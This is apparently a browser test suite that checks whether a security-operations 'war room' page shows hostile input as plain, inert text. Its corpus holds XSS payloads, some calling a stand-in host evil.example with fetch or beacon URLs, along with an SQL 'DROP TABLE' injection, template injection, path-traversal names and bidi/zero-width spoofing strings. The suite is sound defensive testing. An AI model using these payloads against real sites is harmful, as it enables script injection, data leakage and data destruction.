// needs: chromium
import type { Page } from 'playwright-core'
import * as assert from 'uvu/assert'
import { suite } from '../../support/harness/suite.ts'
import { FULL } from '../../support/harness/tier.ts'
import type { Json } from '../../support/harness/wait.ts'
import { isState, siteOf, textOf, textsOf } from '../../support/stages/pages.ts'
import { holds, isWhole, row } from '../../support/stages/room-page.ts'
import { newRoom, publish } from '../../support/stages/rooms.ts'

const EVIL = 'https://evil.example'

/** Texts with a special meaning to a page, a script, a terminal, a template or a database. */
const CORPUS: Readonly<Record<string, string>> = {
  image: `<img src="${EVIL}/x" onerror="alert(1)">`,
  script: `<script>alert(2);fetch('${EVIL}')</script>`,
  attribute: `"><svg/onload=alert(3)>' onmouseover='alert(3)`,
  address: 'javascript:alert(4)',
  frame: `<iframe srcdoc="<script>parent.alert(5)</script>"></iframe><object data="${EVIL}"></object>`,
  style: '</script><style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  form: `<form action="${EVIL}"><input name=token autofocus onfocus=alert(6)></form>`,
  toggle: '<details open ontoggle=alert(7)><summary>x</summary></details>',
  mutation: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(8)&gt;">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the point is that nobody takes it for one
  template: '{{constructor.constructor("alert(9)")()}} ${alert(9)} <%= 7*7 %>',
  sql: `'); DROP TABLE message; -- "`,
  prototype: '__proto__',
  constructor: 'constructor',
  ansi: '\u001b[2J\u001b[31mred\u001b]0;title\u0007\u009b1m',
  separators: 'a\u2028b\u2029c\u0085d\re\u0000f',
  bidi: 'invoice\u202egnp.exe\u2066\u200f',
  unseen: 'ad\u200bmin\ufeff\u00ad\u{e0041}\u{e0042}\u2060',
  entity: '&lt;script&gt;alert(10)&lt;/script&gt;&#60;img src=x onerror=alert(10)&#62;',
  surrogate: 'half \ud83d of a pair',
}

/** Combined into as few texts as possible in the short form, which opens a room for each text. */
const TOGETHER = ['image script attribute', 'frame style form', 'toggle mutation entity', 'template sql', 'address']
TOGETHER.push('prototype', 'constructor', 'ansi separators bidi unseen surrogate')

const TEXTS: readonly (readonly [name: string, text: string])[] = FULL
  ? Object.entries(CORPUS)
  : TOGETHER.map((names) => [
      names,
      names
        .split(' ')
        .map((name) => CORPUS[name]!)
        .join(' '),
    ])

const MARKDOWN: Readonly<Record<string, readonly [text: string, reads: RegExp]>> = {
  link: ['[click](javascript:alert(1))', /click javascript:alert\(1\)/],
  image: [`![picture](${EVIL}/p.png "t")`, /picture https:\/\/evil\.example\/p\.png/],
  autolink: [`<javascript:alert(2)> ${EVIL}/beacon`, /https:\/\/evil\.example\/beacon/],
  reference: ['[ref]\n\n[ref]: javascript:alert(3)', /ref/],
  data: ['[d](data:text/html;base64,PHNjcmlwdD4)', /data:text\/html/],
  title: ['[t](x "\\" onclick=alert(4) ")', /t x/],
  html: [
    `<img src=x onerror=alert(5)> **bold** <b onclick=alert(5)>b</b>`,
    /<img src=x onerror=alert\(5\)> bold <b onclick/,
  ],
  fence: ['```html\n<script>alert(6)</script>\n```', /<script>alert\(6\)<\/script>/],
  language: ['```"><img src=x onerror=alert(7)>\ncode\n```', /code/],
  heading: ['# <svg onload=alert(8)>', /<svg onload=alert\(8\)>/],
  table: ['|a|b|\n|-|-|\n|<img src=x onerror=alert(9)>|[x](javascript:alert(9))|', /<img src=x onerror=alert\(9\)>/],
  mutation: [CORPUS.mutation!, /<mglyph>/],
  bidi: ['**safe\u202egnp.exe**', /safe⟨U\+202E⟩gnp\.exe/],
  nested: ['>'.repeat(2_900), />{2900}/],
  marks: ['_a'.repeat(1_400), /(_a){1400}/],
}

const isUnseen = (char: string): boolean => /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(char) && char !== '\n' && char !== '\t'

/** Returns the expected visible text: nothing is hidden. */
const visible = (text: string): string =>
  [...text.toWellFormed()]
    .map((char) => (isUnseen(char) ? `⟨U+${char.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}⟩` : char))
    .join('')

/** Messages that contain a text in each displayed field and in field names. */
const messagesOf = (text: string): Json[] => {
  const ids = { task_id: text, action_id: text, command_id: text, execution_id: text, summary_id: text }
  const fields = (of: string): Json => ({
    ...ids,
    [`${of}_name`]: text,
    [`${of}_type`]: text,
    [`${of}_assignee`]: text,
    [`${of}_status`]: text,
    [text]: text,
    params: { [text]: [text, { [text]: text }] },
  })
  const says = (message_from: string, message_type: string, data: Json): Json => ({
    message_from,
    message_type,
    message_content: { data },
  })
  const orders = { response_text: text, response_type: text }
  return [
    says(text, text, text),
    says(text, text, { text, [text]: text }),
    says(text, text, { [text]: { [text]: [text] } }),
    says('system', 'llm_request', { text }),
    says('_captain', 'llm_response', { ...orders, tasks: [fields('task')] }),
    says('_manager', 'manager_llm_response', { ...orders, actions: [fields('action')] }),
    says('_operator', 'operator_llm_response', { ...orders, commands: [fields('command')] }),
    says('_manager', 'action_created', { text, action_details: fields('action') }),
    says('_operator', 'error_command_creation', { text, detail: text }),
    says('_executor', 'command_result', { ...fields('command'), status: text, result: { [text]: text, list: [text] } }),
    says('_executor', 'command_result', { ...fields('command'), status: text, result: text }),
    says('_expert', 'execution_summary_generated', { ...ids, ai_summary: text }),
    says('_expert', 'event_summary_generated', { event_status: text, event_summary: text, event_suggestion: text }),
    {
      message_from: text,
      message_type: 'user_message',
      sender_type: 'user',
      user_id: text,
      message_content: { type: 'text', text },
    },
    { message_from: 'ai_assistant', message_type: 'chat', sender_type: 'ai', message_content: { content: text } },
    { [text]: text, message_id: `id-${text}`.slice(0, 255).toWellFormed(), created_at: text },
  ]
}

const test = suite('hostile text in a war room')
// Closing a page fails its test if a dialog opened, a request was sent, a script failed or the policy was violated.
const site = siteOf(test)

/** Expands and reads everything. @returns the text of each row, and forbidden content */
const readAll = (page: Page): Promise<{ texts: string[]; odd: string[] }> =>
  page.evaluate(async () => {
    // Markdown renders some of it in bold, so the whole text is read as well.
    const unfolded = '.row:is(:nth-child(5n + 1), :nth-child(12), :nth-child(13), :nth-child(15))'
    const drawn = (): Promise<void> =>
      new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve())))
    for (;;) {
      const closed = [...document.querySelectorAll<HTMLElement>('.row details:not([open]) > summary')]
      const json = [...document.querySelectorAll<HTMLElement>(`${unfolded}:not(:has(.whole)) .tool:first-child`)]
      if (closed.length + json.length === 0) break
      for (const one of [...closed, ...json]) one.click()
      await drawn()
    }
    const usual = new Set(
      ...[
        'ARTICLE DIV SPAN P BDI TIME A BUTTON OL UL LI DETAILS SUMMARY BR STRONG EM DEL CODE PRE BLOCKQUOTE H3 HR TABLE THEAD TBODY TR TH TD SVG PATH CIRCLE RECT'.split(
          ' ',
        ),
      ],
    )
    const odd: string[] = []
    for (const node of document.querySelectorAll('.row, .row *')) {
      const name = node.tagName.toUpperCase()
      if (!usual.has(name) || (name === 'SVG' && !node.classList.contains('icon')))
        odd.push(node.outerHTML.slice(0, 200))
      if (name === 'A' && !/^#\d+$/.test(node.getAttribute('href') ?? '')) odd.push(node.outerHTML)
      for (const { name: attribute } of node.attributes) {
        if (/^on|^(src|srcdoc|style|action|formaction|xlink:href)$/.test(attribute)) odd.push(`${name} ${attribute}`)
      }
    }
    const proto = Object.keys(Object.prototype)
    if (proto.length > 0) odd.push(`Object.prototype has ${proto}`)
    const texts = [...document.querySelectorAll('.row')].map((one) => (one as HTMLElement).textContent ?? '')
    return { texts, odd }
  })

/**
 * So high that all of an event is drawn, in pixels so coarse that drawing it costs little. Much higher, and the browser
 * takes seconds to make a window of it.
 */
const TALL = { viewport: { width: 1280, height: 12_000 }, deviceScaleFactor: 0.1 }

for (const [name, text] of TEXTS) {
  test(`${name}: in every field it is text, all of it to be seen, and does nothing`, async () => {
    const event_id = newRoom()
    const messages = messagesOf(text)
    const ids = await publish(site.gateway, event_id, messages)
    const page = await site.pages.room(event_id, TALL)
    await isState(page, 'live')
    await holds(page, ids)
    const { texts, odd } = await readAll(page)
    assert.equal(odd, [])
    assert.is(texts.length, messages.length, 'all are drawn')
    const readable = visible(text)
    for (const [n, shown] of texts.entries()) {
      const flat = shown.toWellFormed().replaceAll('⏎', '\n')
      assert.ok(flat.includes(readable), `message ${n} does not say ${readable}: ${shown.slice(0, 2_000)}`)
      const hidden = [...shown].find(isUnseen)
      assert.is(hidden, undefined, `U+${hidden?.codePointAt(0)?.toString(16)} in message ${n}`)
    }
    for (const selector of ['#types .choice-label', '.row .from']) {
      assert.ok(
        (await textsOf(page, selector)).some((shown) => shown.toWellFormed().replaceAll('⏎', '\n') === readable),
      )
    }
  })
}

test('markdown: text is readable, link targets are shown, and links are inactive', async () => {
  const event_id = newRoom()
  const all = Object.values(MARKDOWN)
  const ids = await publish(
    site.gateway,
    event_id,
    all.map(([content]) => ({ message_from: 'ai_assistant', message_type: 'chat', message_content: { content } })),
  )
  const page = await site.pages.room(event_id, TALL)
  await isState(page, 'live')
  await holds(page, ids)
  for (const [n, [text, reads]] of all.entries()) {
    assert.match(await textOf(page, `${row(ids[n])} .markdown`), reads, text)
  }
  const { texts, odd } = await readAll(page)
  assert.equal(odd, [])
  assert.is(texts.length, all.length, 'all are drawn')
  assert.is(await page.locator('.markdown :is(a, img, svg, input)').count(), 0)
})

test.full('the name of an event is text in the head, the title and the address', async () => {
  const names = [`<img src=x onerror=alert(1)>`, `"><script>alert(2)</script>`, '{{7*7}}', '__proto__', "'); --"]
  names.push('a/../..\\b?c#d%00', 'x\u202egnp', 'y\u2028z', 'javascript:alert(3)')
  const page = await site.pages.open('/livez')
  for (const event_id of names) {
    const [id] = await publish(site.gateway, event_id, { message_content: 'here' })
    await page.goto(`${site.gateway.url}/events/${encodeURIComponent(event_id)}`)
    await isState(page, 'live')
    await isWhole(page)
    assert.is(await textOf(page, '#title'), visible(event_id))
    assert.is(await page.title(), `${visible(event_id)} – deepsoc-gateway`)
    assert.match(await textOf(page, `${row(id)} .body`), 'here')
  }
})

test('user input and URL contents are text as well', async () => {
  const event_id = newRoom()
  const page = await site.pages.open(`/events/${event_id}?x=<script>alert(1)</script>#<img src=x onerror=alert(1)>`)
  await isState(page, 'live')
  for (const text of Object.values(CORPUS)) await page.fill('#search', text.replaceAll(/[\r\n]/g, ' '))
  await page.fill('#search', '')
  await page.fill('#name', CORPUS.image!)
  await page.fill('#text', CORPUS.script!)
  await page.press('#text', 'Enter')
  await page.waitForSelector('.row')
  assert.is(await textOf(page, '.row .from'), CORPUS.image)
  assert.is(await textOf(page, '.row .text'), CORPUS.script)
  assert.is(await page.locator('.row :is(img, script)').count(), 0)
})

test.full('extreme numbers break nothing', async () => {
  const event_id = newRoom()
  const rounds = ['-1', '0', '9007199254740991', '-9007199254740991', '1e3', 'null']
  const ids: number[] = []
  for (const one of rounds)
    ids.push(...(await publish(site.gateway, event_id, `{"round_id":${one},"message_content":"r"}`)))
  const page = await site.pages.room(event_id)
  await isState(page, 'live')
  await holds(page, ids)
  assert.match(await textOf(page, '.rounds'), 'Round 9,007,199,254,740,991')
})

test.run()
